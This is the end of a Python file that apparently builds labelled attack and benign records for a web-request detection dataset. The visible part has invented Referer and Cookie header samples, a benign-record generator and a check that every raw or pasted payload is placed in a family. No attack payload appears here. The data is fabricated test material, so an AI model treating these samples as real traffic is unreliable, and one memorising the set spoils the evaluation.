    ("Referer", "https://coccoc.com/search?query=qu%E1%BA%A3n+l%C3%BD+ng%C6%B0%E1%BB%9Di+d%C3%B9ng"),
    ("Referer", "https://search.yahoo.co.jp/search?p=%E9%A1%A7%E5%AE%A2%E7%AE%A1%E7%90%86"),
    ("Cookie", "session=abc123; lang=zh-CN; tz=Asia%2FShanghai"),
    ("Cookie", "session=abc123; lang=tr; tz=Europe%2FIstanbul"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


def _check(families: Sequence[tuple[str, str, list[Entry]]]) -> None:
    """Every raw-byte and pasted payload is in the set (a typo would leave it placed as ordinary text)."""
    payloads = {e if isinstance(e, str) else e[0] for _, _, entries in families for e in entries}
    missing = (LATIN | RAW) - payloads
    if missing:
        raise ValueError(f"unplaced payloads: {sorted(missing)!r}")


_check(FAMILIES)


if __name__ == "__main__":
    print_records(attacks(), benign())
